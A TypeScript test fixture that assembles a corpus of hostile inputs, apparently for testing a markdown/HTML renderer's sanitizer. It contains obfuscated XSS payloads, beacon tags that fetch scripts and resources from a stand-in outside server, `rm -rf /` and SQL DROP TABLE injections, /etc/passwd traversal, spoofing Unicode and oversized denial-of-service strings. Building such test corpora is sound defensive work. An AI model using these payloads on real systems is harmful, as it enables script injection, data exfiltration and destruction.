/** Texts that mean harm to whoever shows them. `away` is the address of somebody else's server, `RUN` would run in the page. */
const RUN = 'globalThis.hacked=1';
const range = (from: number, to: number): number[] => Array.from({ length: to - from + 1 }, (_, i) => from + i);
const char = (code: number): string => String.fromCodePoint(code);

const TAGS = [
  ...['img src=x onerror', 'svg onload', 'body onload', 'iframe onload', 'video src=x onerror', 'audio src=x onerror'],
  ...['details open ontoggle', 'input autofocus onfocus', 'select autofocus onfocus', 'marquee onstart', 'a onclick'],
  ...['object data=x onerror', 'form onsubmit', 'math onload', 'b onpointerenter', 'dialog open onclose', 'p style="'],
  ...['link rel=stylesheet onload href=x', 'meta http-equiv=refresh onload', 'button popovertarget=x onclick'],
];
const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\nscript:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  ` javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `java%73cript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  'blob:null/0',
  'file:///etc/passwd',
  'intent://x#Intent;end',
  'tel:0900',
];
/** Ways in which an address comes to be one of the page. */
const ADDRESSED: readonly ((url: string) => string)[] = [
  (url) => url,
  (url) => `[a link](${url})`,
  (url) => `[a link](<${url}> "a title")`,
  (url) => `![an image](${url})`,
  (url) => `<${url}>`,
  (url) => `[a reference][r]\n\n[r]: ${url}`,
  (url) => `<a href="${url}">a link</a>`,
];
const beacons = (away: string): string[] => [
  ...ADDRESSED.map((as) => as(`${away}/beacon`)),
  ...ADDRESSED.map((as) => as(`//${away.replace(/^http:\/\//, '')}/slashes`)),
  ...ADDRESSED.map((as) => as(`\\\\${away.replace(/^http:\/\//, '')}\\backslashes`)),
  `<script src="${away}/script"></script>`,
  `<link rel="prefetch" href="${away}/prefetch"><link rel="dns-prefetch" href="${away}">`,
  `<style>@import url(${away}/import);body{background:url(${away}/background)}</style>`,
  `<img srcset="${away}/srcset 2x"><picture><source srcset="${away}/source"></picture>`,
  `<form action="${away}/form"><input name=a><button>go</button></form><base href="${away}/">`,
  `<object data="${away}/object"></object><embed src="${away}/embed">`,
  `<svg><image href="${away}/svg"/><use href="${away}/use#a"/><foreignObject><img src="${away}/f"></foreignObject></svg>`,
  `[![an image in a link](${away}/inner)](${away}/outer)`,
  `| ![in a table](${away}/table) |\n|---|\n| ${away}/cell |`,
  `A note[^1]\n\n[^1]: ![in a note](${away}/note)`,
  `<video poster="${away}/poster" src="${away}/video"></video><audio src="${away}/audio" autoplay></audio>`,
  `url(${away}/css); background: url('${away}/css2')`,
  `www.a.example and ${away.replace('http://', 'http://a:b@')}/user and mail@a.example`,
];
const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `{% include "/etc/passwd" %}`,
  `{{'a'.constructor.prototype.charAt=[].join;$eval('${RUN}')}}`,
  `<div v-html="'<img src=x onerror=${RUN}>'"></div>`,
  `<x-template><script>${RUN}</script></x-template>`,
  `dangerouslySetInnerHTML={{__html:'<img src=x onerror=${RUN}>'}}`,
  `');${RUN};//`,
  `";${RUN};//`,
  `</script><script>${RUN}</script>`,
  `]]><script>${RUN}</script><![CDATA[`,
  `--><script>${RUN}</script><!--`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62; &amp;amp; &nbsp; &zwnj; &rlm;`,
  `'"><svg/onload=${RUN}>`,
  'A &#x202E;turned&#x202C; text, &#8203;a hidden &shy;one, &#0; &#27;[2J ![&rlm;](https://a.example/&#x202e;)',
  '$$(rm -rf /)$$ `rm -rf /` && || ; | $(id)',
  "' OR 1=1; DROP TABLE runs; --",
  '../../../../etc/passwd',
  '%00%0a%0d%2e%2e%2f',
  '=HYPERLINK("https://a.example","cell")',
  'data: a\nid: 9\nevent: run.completed\n\n',
];
const CONTROLS = [...range(0x00, 0x08), 0x0b, 0x0c, ...range(0x0d, 0x1f), ...range(0x7f, 0x9f)].map(
  (code) => `before${char(code)}after`,
);
const HIDDEN = [
  ...[0xad, 0x34f, 0x61c, 0x115f, 0x1160, 0x17b4, 0x180b, 0x180e, ...range(0x200b, 0x200f), ...range(0x2028, 0x202e)],
  ...[...range(0x2060, 0x2064), ...range(0x2066, 0x206f), 0x3164, 0xfe00, 0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0x1d173],
  ...[0xe0001, 0xe0041, 0xe0100],
].map((code) => `be${char(code)}tween`);
const LETTERS = [
  'user\u202egnp.exe',
  '\u2067admin\u2066 delete \u2069everything\u2069',
  'لماذا رُدّ الطلب 8f2c مرتين؟',
  'מדוע ההזמנה הוחזרה (8f2c) פעמיים',
  '为什么订单被退款两次',
  '👩‍👩‍👧‍👦👩🏽‍🚀🏳️‍🌈🇩🇪1️⃣',
  `Z${'\u0351\u0336\u034a'.repeat(200)}algo`,
  '\ud800 and \udc00 alone, \udc00\ud800 turned',
  '\ufffe\uffff\u{1fffe}',
  'раypal.com (not all of it is Latin)',
  'ﷺ﷽𒐫꧅',
  '\u001b[31mred\u001b[0m \u001b[2J \u001b]0;title\u0007 \u001b]8;;https://a.example\u0007link\u001b]8;;\u0007',
  '\u009b31m \u0090q\u009c \u0007\u0008\u0008\u0008',
  '\r\n\r\nHTTP/1.1 200 OK\r\n\r\n',
  '\t\t\ttabs\n\n\n\nlines',
];
const NAMES = [
  ...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__'],
  ...['then', 'toJSON', 'length', 'undefined', 'null', 'NaN', '-0', '1e999', '[object Object]'],
];
/** What takes longer the more there is of it, and what does not end where it should. */
const HUGE = [
  'w'.repeat(20_000),
  'word '.repeat(3_000),
  '\n'.repeat(2_000),
  `${'> '.repeat(100)}deep`,
  range(0, 99)
    .map((i) => `${'  '.repeat(i)}- ${i}`)
    .join('\n'),
  `|${' a |'.repeat(200)}\n|${'---|'.repeat(200)}\n${`|${' b |'.repeat(200)}\n`.repeat(10)}`,
  '['.repeat(3_000),
  '![a]('.repeat(1_000),
  '*a_'.repeat(2_000),
  '`'.repeat(3_000),
  '<'.repeat(3_000),
  '<!--'.repeat(1_000),
  `${'a'.repeat(3_000)}@`,
  `${'a@a.'.repeat(1_000)}!`,
  `${'\\'.repeat(3_000)}"`,
  `http://${'a.'.repeat(1_500)}`,
  `${'('.repeat(1_500)}${')'.repeat(1_500)}`,
  '~~~\n'.repeat(500),
  '#'.repeat(3_000),
  `[a]: <${'x'.repeat(3_000)}>\n[a]`,
  `${' '.repeat(5_000)}x`,
  JSON.stringify(range(0, 999)),
];

export const corpus = (away: string): readonly string[] => [
  ...TAGS.map((tag) => `before <${tag}="${RUN}">inside</${tag.split(' ')[0]}> after`),
  ...SCHEMES.flatMap((url) => ADDRESSED.slice(1, 6).map((as) => as(url))),
  ...beacons(away),
  ...TEMPLATES,
  ...CONTROLS,
  ...HIDDEN,
  ...LETTERS,
  ...NAMES,
  ...HUGE,
];
